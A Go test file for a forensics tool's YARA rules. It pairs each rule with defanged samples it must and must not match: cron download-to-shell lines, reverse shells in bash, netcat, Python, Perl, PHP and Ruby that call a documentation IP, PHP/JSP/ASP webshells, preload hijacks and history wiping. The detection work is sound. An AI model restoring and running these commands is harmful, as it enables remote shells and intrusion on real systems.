//go:build cgo

package yara

import (
	"bytes"
	"encoding/binary"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/hozen-dfir/hozen/evidence"
)

// look is a harmless look-alike: a path and a text in which ~ is taken out, so
// that this file itself holds none of what the rules look for.
type look struct{ path, text string }

func (l look) bytes() []byte { return []byte(strings.ReplaceAll(l.text, "~", "")) }

// elfWith makes the header of a 64-bit ELF program without sections (System V
// ABI, "ELF Header") before body.
func elfWith(body string) string {
	b := make([]byte, 64, 64+len(body))
	copy(b, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(b[16:], 2)
	binary.LittleEndian.PutUint16(b[18:], 62)
	binary.LittleEndian.PutUint32(b[20:], 1)
	binary.LittleEndian.PutUint16(b[52:], 64)
	return string(b) + body
}

func dense() string {
	rng := rand.New(rand.NewPCG(3, 4))
	b := make([]byte, 40_000)
	for i := range b {
		b[i] = byte(rng.IntN(256))
	}
	return strings.ReplaceAll(string(b), "~", "")
}

// cases gives for every starter rule what it must find and what it must not.
func cases() map[string]struct{ yes, no []look } {
	type c = struct{ yes, no []look }
	pad := strings.Repeat("\x00", 600)
	upx := pad[:100] + "UP~X!" + pad + strings.Repeat("a", 3000) + "UP~X!" + pad[:50]
	miner := pad + "strat~um+tcp://pool.example:3333 mining.sub~scribe donate-le~vel rand~omx cryptonig~ht hugep~ages"
	return map[string]c{
		"hozen_cron_download_to_shell": {
			yes: []look{{"/etc/cron.d/x", "* * * * * root cu~rl -fsSL http://192.0.2.1/a | ba~sh\n"}, {"/var/spool/cron/crontabs/u", "@daily wg~et -qO- http://x.example/a|/bin/sh >/dev/null\n"},
				{"/etc/crontab", "0 1 * * * root cu~rl http://x.example/p.py | pyth~on3\n"}},
			no: []look{{"/etc/cron.daily/update", "curl -fsSo /var/cache/list https://mirror.example/list\n"}, {"/etc/cron.d/y", "5 * * * * root wget -q https://x.example/f | gzip -d\n"},
				{"/usr/share/doc/install.md", "cu~rl https://x.example | ba~sh\n"}, {"/etc/cron.d/z", "1 * * * * root curl https://x.example/ping | shasum\n"}}},
		"hozen_cron_runs_from_temporary_folder": {
			yes: []look{{"/etc/cron.d/x", "*/5 * * * * root /tm~p/.x/run\n"}, {"/var/spool/cron/root", "@reboot /dev/sh~m/k\n"}, {"/etc/crontab", "1 2 * * * ba~sh /var/tm~p/a.sh\n"}},
			no:  []look{{"/etc/cron.d/tmp", "15 3 * * * root find /tmp -mtime +7 -delete\n"}, {"/etc/cron.daily/t", "cd /var/lib && rm -rf /tmp/cache.*\n"}}},
		"hozen_cron_encoded_command": {
			yes: []look{{"/etc/cron.d/x", "* * * * * root echo aWQ= | base~64 -d | s~h\n"}, {"/var/spool/cron/x", "@reboot echo 6964 | xx~d -r -p | ba~sh\n"}},
			no:  []look{{"/etc/cron.d/x", "* * * * * root base64 -d /etc/key > /run/key\n"}}},
		"hozen_preload_from_odd_place": {
			yes: []look{{"/etc/ld.so.preload", "/tm~p/libx.so\n"}, {"/etc/ld.so.preload", "/usr/lib/.hid~den/libx.so\n"}},
			no:  []look{{"/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"}, {"/tmp/notes", "/tmp/libx.so\n"}}},
		"hozen_preload_in_use": {
			yes: []look{{"/etc/ld.so.preload", "/usr/local/lib/libx.so\n"}},
			no:  []look{{"/etc/ld.so.preload", "\n"}, {"/etc/ld.so.conf", "/usr/local/lib/libx.so\n"}}},
		"hozen_preload_variable_at_startup": {
			yes: []look{{"/etc/profile.d/a.sh", "export LD_PRE~LOAD=/dev/shm/a.so\n"}, {"/root/.bashrc", "LD_PRE~LOAD=\"/usr/lib/.x/a.so\" ; export LD_PRELOAD\n"}},
			no:  []look{{"/etc/profile.d/a.sh", "export LD_PRELOAD=/usr/lib/libeatmydata.so\n"}, {"/home/a/notes", "LD_PRELOAD=/tmp/a.so ./prog\n"}}},
		"hozen_startup_file_downloads": {
			yes: []look{{"/etc/rc.local", "cu~rl -s http://192.0.2.1/x | s~h\n"}, {"/root/.profile", "no~hup /tm~p/.d >/dev/null &\n"}},
			no:  []look{{"/root/.profile", "curl -s https://x.example/motd > ~/.motd\n"}, {"/home/a/install.txt", "cu~rl https://x.example | s~h\n"}}},
		"hozen_service_runs_from_temporary_folder": {
			yes: []look{{"/etc/systemd/system/x.service", "[Ser~vice]\nExecSt~art=/tm~p/x\n"}, {"/etc/systemd/system/y.service", "[Ser~vice]\nExecSt~art=/bin/bash -c \"cu~rl http://192.0.2.1/a | ba~sh\"\n"},
				{"/etc/systemd/system/z.service", "[Ser~vice]\nExecSt~art=/bin/sh -c '/dev/sh~m/a'\n"}},
			no: []look{{"/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x --dir /tmp/x\n"}}},
		"hozen_shell_over_dev_tcp": {
			yes: []look{{"/root/.bash_history", "ba~sh -i >& /dev/t~cp/192.0.2.1/4444 0>&1\n"}, {"/tmp/a", "ex~ec 5<>/dev/t~cp/192.0.2.1/443; cat <&5 | while re~ad l; do $l 2>&5 >&5; done\n"}},
			no:  []look{{"/usr/share/doc/bash/x", "Bash opens /dev/tcp/host/port when redirections name it.\n"}, {"/root/check.sh", "exec 3<>/dev/tcp/db.example/5432 && echo up\n"}}},
		"hozen_netcat_serves_a_shell": {
			yes: []look{{"/root/.bash_history", "n~c -e /bin/sh 192.0.2.1 4444\n"}, {"/etc/cron.d/x", "* * * * * root nc~at 192.0.2.1 80 --ex~ec /bin/bash\n"},
				{"/home/a/.zsh_history", "rm /tmp/f;mkfi~fo /tmp/f;cat /tmp/f|/bin/s~h -i 2>&1|n~c 192.0.2.1 99 >/tmp/f\n"}},
			no: []look{{"/root/.bash_history", "n~c -zv db.example 5432\nn~c -l 8080 < file\n"}, {"/usr/share/man/nc.txt", "n~c -e /bin/sh host port\n"}}},
		"hozen_python_reverse_shell": {
			yes: []look{{"/tmp/a.py", "import socket,os,pty\ns=socket.soc~ket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"192.0.2.1\",99))\nos.du~p2(s.fileno(),0)\nos.du~p2(s.fileno(),1)\npty.spa~wn(\"/bin/sh\")\n"},
				{"/root/.bash_history", "python -c 'import socket,subprocess,os;s=socket.soc~ket();s.connect((\"192.0.2.1\",99));[os.du~p2(s.fileno(),f) for f in(0,1,2)];subprocess.ca~ll([\"/bin/sh\",\"-i\"])'\n"}},
			no: []look{{"/usr/lib/python3/client.py", "s = socket.socket()\ns.connect((host, port))\n"}, {"/usr/lib/python3/pty2.py", "os.dup2(slave.fileno(), 0)\npty.spawn('/bin/sh')\n"}}},
		"hozen_perl_php_ruby_reverse_shell": {
			yes: []look{{"/root/.bash_history", "perl -e 'use Socket;soc~ket(S,PF_IN~ET,SOCK_STREAM,6);connect(S,$a);open(ST~DIN,\">&S\");open(STDOUT,\">&S\");ex~ec(\"/bin/sh -i\");'\n"},
				{"/tmp/x", "php -r '$s=fsocko~pen(\"192.0.2.1\",99);ex~ec(\"/bin/sh -i <&3 >&3 2>&3\");'\n"}, {"/tmp/y", "soc~at TCP:192.0.2.1:99 EX~EC:'ba~sh -li',pty,stderr\n"},
				{"/tmp/z", "ruby -rsocket -e'f=TCPSock~et.open(\"192.0.2.1\",99).to_i;ex~ec sprintf(\"/bin/sh -i <&%d\",f)'\n"}},
			no: []look{{"/root/.bash_history", "socat - TCP:db.example:5432\nphp -r 'phpinfo();'\n"}}},
		"hozen_history_download_and_run": {
			yes: []look{{"/root/.bash_history", "cd /tmp; wg~et http://192.0.2.1/x; chm~od +x x; ./x\n"}, {"/home/a/.ash_history", "cu~rl -O http://192.0.2.1/x && chm~od 777 x && sh ./x\n"}},
			no:  []look{{"/root/.bash_history", "wget https://x.example/a.tar.gz; tar xf a.tar.gz; chmod 644 a\n"}, {"/usr/share/doc/x", "wg~et http://x.example/x; chm~od +x x; ./x\n"}}},
		"hozen_history_erased": {
			yes: []look{{"/root/.bashrc", "uns~et HISTFILE\n"}, {"/root/.bash_history", "ln -s~f /dev/null ~~/.bash_history\n"}, {"/root/.bash_history", "echo > /var/lo~g/wtmp\n"}},
			no:  []look{{"/root/.bashrc", "HISTSIZE=1000\nexport HISTFILE=~/.history\n"}, {"/root/.bash_history", "less /var/log/wtmp\n"}}},
		"hozen_webshell_php_request_to_interpreter": {
			yes: []look{{"/var/www/a.php", "<?php @ev~al($_PO~ST['x']); ?>"}, {"/var/www/b.php", "<?php sys~tem(base64_dec~ode($_GE~T['c'])); ?>"}, {"/var/www/c.php", "<? $_GE~T['f']($_PO~ST['a']); ?>"},
				{"/var/www/d.php", "<?= `$_REQ~UEST[x]` ?>"}},
			no: []look{{"/var/www/a.php", "<?php $x = htmlspecialchars($_POST['x']); echo $x; ?>"}, {"/var/www/b.php", "<?php $db->exec($sql, $_POST['x']); curl_exec($h); ?>"},
				{"/var/www/notes.txt", "never write ev~al($_PO~ST['x'])"}}},
		"hozen_webshell_php_nested_decoding": {
			yes: []look{{"/var/www/a.php", "<?php ev~al(gzinfl~ate(base64_dec~ode('abc'))); ?>"}, {"/var/www/b.php", "<?php ev~al(base64_dec~ode('" + strings.Repeat("QUJD", 60) + "')); ?>"}},
			no:  []look{{"/var/www/a.php", "<?php $x = gzinflate(base64_decode($data)); ?>"}, {"/var/www/b.php", "<?php eval('return 1;'); ?>"}}},
		"hozen_webshell_in_image": {
			yes: []look{{"/var/www/a.gif", "GIF8~9a......<?p~hp echo $_GE~T['x']; ?>"}},
			no:  []look{{"/var/www/a.gif", "GIF89a......<?php is a word in this comment"}, {"/var/www/a.php", "<?p~hp echo $_GE~T['x']; ?>"}}},
		"hozen_webshell_jsp_request_to_process": {
			yes: []look{{"/srv/a.jsp", "<% Runtime.getRun~time().ex~ec(request.getPara~meter(\"c\")); %>"}, {"/srv/b.jsp", "<% new Process~Builder(\"/bin/sh\",\"-c\",request.getPara~meter(\"c\")).start(); %>"}},
			no:  []look{{"/srv/a.jsp", "<% String n = request.getParameter(\"name\"); %>"}, {"/srv/Build.java", "Runtime.getRun~time().ex~ec(request.getPara~meter(\"c\"));"}}},
		"hozen_webshell_asp_request_to_interpreter": {
			yes: []look{{"/inetpub/a.asp", "<%ev~al request(\"x\")%>"}, {"/inetpub/b.aspx", "<script runat=\"server\">void P(){ ev~al(Request.It~em[\"x\"],\"unsafe\"); }</script>"}},
			no:  []look{{"/inetpub/a.asp", "<% Response.Write(Server.HTMLEncode(Request(\"x\"))) %>"}}},
		"hozen_packed_elf_in_temporary_folder": {
			yes: []look{{"/tmp/a", elfWith(upx)}, {"/mnt/image/dev/shm/b", elfWith(upx)}},
			no:  []look{{"/usr/bin/a", elfWith(upx)}, {"/tmp/a", elfWith(pad)}, {"/tmp/a.txt", strings.Repeat("UP~X!", 300)}}},
		"hozen_dense_elf_in_temporary_folder": {
			yes: []look{{"/var/tmp/a", elfWith(dense())}},
			no:  []look{{"/usr/bin/a", elfWith(dense())}, {"/tmp/a", elfWith(strings.Repeat(pad, 20))}}},
		"hozen_hidden_elf_in_temporary_folder": {
			yes: []look{{"/tmp/.x", elfWith(pad)}, {"/dev/shm/.a/b/c", elfWith(pad)}},
			no:  []look{{"/tmp/x", elfWith(pad)}, {"/home/a/.local/bin/x", elfWith(pad)}, {"/tmp/.mount_app/usr/bin/x", elfWith(pad)}, {"/tmp/.notes", "text"}}},
		"hozen_miner_program": {
			yes: []look{{"/usr/bin/kworkerd", elfWith(miner)}},
			no:  []look{{"/usr/bin/a", elfWith(pad + "rand~omx hugep~ages")}, {"/usr/share/doc/a", miner}}},
		"hozen_miner_configuration": {
			yes: []look{{"/root/config.json", `{"donate-le~vel": 1, "rand~omx": {}, "po~ols": [{"us~er": "4A", "url": "x"}]}`}},
			no:  []look{{"/etc/db.json", `{"pools": [{"user": "db", "size": 4}]}`}}},
		"hozen_miner_command": {
			yes: []look{{"/etc/cron.d/x", "* * * * * root /opt/x -o strat~um+tcp://pool.example:3333 -u 4A\n"}, {"/root/.bash_history", "./x --donate-le~vel 1 --co~in monero\n"}},
			no:  []look{{"/root/.bash_history", "gcc -o stratum main.c\n"}, {"/usr/share/doc/x", "The stratum protocol uses stratum+tcp:// as its scheme.\n"}}},
		"hozen_eicar_test_file": {
			yes: []look{{"/tmp/eicar.com", "X5~O!P%@AP[4\\PZX54(P^)7CC)7}$EIC~AR-STANDARD-ANTIVIRUS-TEST-FI~LE!$H+H*"}},
			no:  []look{{"/usr/share/doc/x", "see EIC~AR-STANDARD-ANTIVIRUS-TEST-FI~LE"}}},
		"hozen_ssh_key_with_hostile_command": {
			yes: []look{{"/root/.ssh/authorized_keys", "comm~and=\"cu~rl http://192.0.2.1/a | ba~sh\" ssh-ed25519 AAAA\n"}, {"/home/a/.ssh/authorized_keys2", "comm~and=\"/tm~p/.x\" ssh-rsa AAAA\n"}},
			no:  []look{{"/root/.ssh/authorized_keys", "command=\"/usr/bin/rrsync /srv\",no-pty ssh-ed25519 AAAA x@y\nssh-rsa AAAA z\n"}}},
		"hozen_ssh_key_written_by_a_database": {
			yes: []look{{"/root/.ssh/authorized_keys", "REDI~S0009\xfa\x00\n\nssh-r~sa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x\n\n"}, {"/var/spool/cron/root", "REDI~S0006\n\n*/1 * * * * cu~rl http://192.0.2.1/x\n"}},
			no:  []look{{"/var/lib/redis/dump.rdb", "REDI~S0009\xfa\tredis-ver\x05key value"}, {"/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x\n"}}},
		"hozen_ssh_server_reads_keys_from_odd_place": {
			yes: []look{{"/etc/ssh/sshd_config", "Port 22\nAuthorizedKeysFi~le .ssh/authorized_keys /tm~p/k\n"}, {"/etc/ssh/sshd_config.d/a.conf", "\nAuthorizedKeysComm~and /usr/lib/.x/k\n"}},
			no:  []look{{"/etc/ssh/sshd_config", "\n#AuthorizedKeysFile .ssh/authorized_keys\nAuthorizedKeysFile %h/.ssh/authorized_keys\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\n"}}},
		"hozen_ssh_login_script_with_network_command": {
			yes: []look{{"/root/.ssh/rc", "cu~rl http://192.0.2.1/a | s~h\n"}, {"/etc/ssh/sshrc", "ex~ec 3<>/dev/t~cp/192.0.2.1/1\n"}},
			no:  []look{{"/root/.ssh/rc", "xauth -q -\n"}, {"/home/a/rc", "cu~rl http://192.0.2.1/a | s~h\n"}}},
	}
}

// TestStarterRules: each rule finds its look-alikes and leaves the honest
// neighbours alone, and no rule is without both.
func TestStarterRules(t *testing.T) {
	c, _ := starter(t)
	all := cases()
	for name, more := range spellings() {
		x := all[name]
		all[name] = struct{ yes, no []look }{append(x.yes, more.yes...), append(x.no, more.no...)}
	}
	for name, want := range all {
		for _, l := range want.yes {
			if got := rulesOf(scanText(t, c, memory(l.bytes(), evidence.Record{Path: l.path}))); !slices.Contains(got, name) {
				t.Errorf("%s does not find %s %.100q (found %v)", name, l.path, l.bytes(), got)
			}
		}
		for _, l := range want.no {
			if got := rulesOf(scanText(t, c, memory(l.bytes(), evidence.Record{Path: l.path}))); slices.Contains(got, name) {
				t.Errorf("%s finds %s %.100q", name, l.path, l.bytes())
			}
		}
	}
	for _, rule := range ruleNames(t) {
		if x := all[rule]; len(x.yes) == 0 || len(x.no) == 0 {
			t.Errorf("%s has no test of both kinds", rule)
		}
	}
}

var ruleLine = regexp.MustCompile(`(?m)^(private )?rule (\w+)`)

// ruleNames reads the names of all starter rules that are not private, and
// checks that each has its metadata.
func ruleNames(t testing.TB) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(moduleRoot(t), "rules", "yara", "*.yar"))
	if err != nil || len(files) == 0 {
		t.Fatal("no starter rules", err)
	}
	var out []string
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range ruleLine.FindAllSubmatchIndex(b, -1) {
			if m[2] >= 0 {
				continue
			}
			name := string(b[m[4]:m[5]])
			head, _, _ := bytes.Cut(b[m[0]:], []byte("condition:"))
			for _, key := range []string{"description = ", `author = "hozen"`, "date = ", "severity = "} {
				if !bytes.Contains(head, []byte(key)) {
					t.Errorf("%s: no %s", name, key)
				}
			}
			out = append(out, name)
		}
	}
	return out
}

// TestStarterRulesOnOwnTests: the look-alikes in this package are spelt so that
// a sweep of the sources finds nothing.
func TestStarterRulesOnOwnTests(t *testing.T) {
	c, _ := starter(t)
	files, _ := filepath.Glob("*.go")
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if got := rulesOf(scanText(t, c, memory(b, evidence.Record{Path: "/root/.bash_history"}))); len(got) > 0 {
			t.Errorf("%s: %v", f, got)
		}
	}
}
